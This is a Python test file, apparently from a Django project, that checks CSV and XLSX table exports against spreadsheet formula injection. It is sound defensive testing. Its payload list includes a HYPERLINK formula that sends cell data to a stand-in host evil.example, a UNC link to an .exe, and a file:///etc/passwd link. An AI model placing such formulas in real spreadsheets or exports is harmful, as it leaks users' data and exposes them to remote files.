"""Whatever text reaches a download — a cell, a column name, the query string
the citation repeats — no spreadsheet runs it: no formula, array formula or live
link in the XLSX read back with openpyxl, and no CSV cell, header lines
included, starting like a formula when read with the csv module."""

import csv
import io

import openpyxl
import pandas as pd
import pytest
from django.test import RequestFactory
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.exports import table_response

pytestmark = pytest.mark.django_db

DANGEROUS = ["=", "+", "-", "@", "{", "\t", "\r", " =", ",=", ";=", "{=", "'"]
HOSTILE = [
    '{=HYPERLINK("http://evil.example/?"&A2,"Klik hier")}',
    "external:\\\\host\\share\\file.exe",
    "file:///etc/passwd",
    "mailto:a@example.nl",
    "=1+1",
    "x,=1+1",
    "x;=1+1",
    "@SUM(A1)",
    "-2+3",
]
texts = st.one_of(
    st.sampled_from(HOSTILE),
    st.builds(
        lambda prefix, rest: prefix + rest,
        st.sampled_from(DANGEROUS),
        st.text(max_size=30),
    ),
    st.text(max_size=40),
)
FORMULA_START = ("=", "+", "-", "@", "{", "\t")


def _response(text: str, fmt: str):
    request = RequestFactory().get("/collectieven.csv", {"q": text})
    frame = pd.DataFrame({"naam": [text], text or "leeg": [text]})
    return table_response(frame, fmt=fmt, filename="t", request=request, sources=[text])


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(texts)
def test_no_csv_cell_starts_like_a_formula(text):
    body = _response(text, "csv").content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(body, newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_START), (text, cell)
    for separator in (";", "\t"):  # spreadsheets that split on these
        for line in body.splitlines()[:2]:
            for cell in line.split(separator):
                assert not cell.lstrip(" ").startswith(FORMULA_START), (text, cell)


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(texts)
def test_no_xlsx_cell_is_a_formula_or_a_link(text):
    book = openpyxl.load_workbook(io.BytesIO(_response(text, "xlsx").content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (text, cell.value)
                assert cell.hyperlink is None, (text, cell.value)
                assert type(cell.value).__name__ != "ArrayFormula", text


def test_the_hostile_texts_come_back_as_text():
    book = openpyxl.load_workbook(io.BytesIO(_response(HOSTILE[0], "xlsx").content))
    values = [c.value for row in book.worksheets[0].iter_rows() for c in row]
    assert "'" + HOSTILE[0] in values  # neutralised, shown as typed


def test_the_query_string_in_the_citation_line_splits_into_no_formula():
    # As a browser sends it: commas and "=" unencoded.
    request = RequestFactory().get("/collectieven.csv", QUERY_STRING="q=x,=1+1;@A1")
    frame = pd.DataFrame({"naam": ["a"]})
    body = table_response(frame, fmt="csv", filename="t", request=request)
    text = body.content.decode("utf-8-sig")
    assert "q=x,'=1+1;'@A1" in text.splitlines()[0]
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell.startswith(FORMULA_START) for cell in row), row
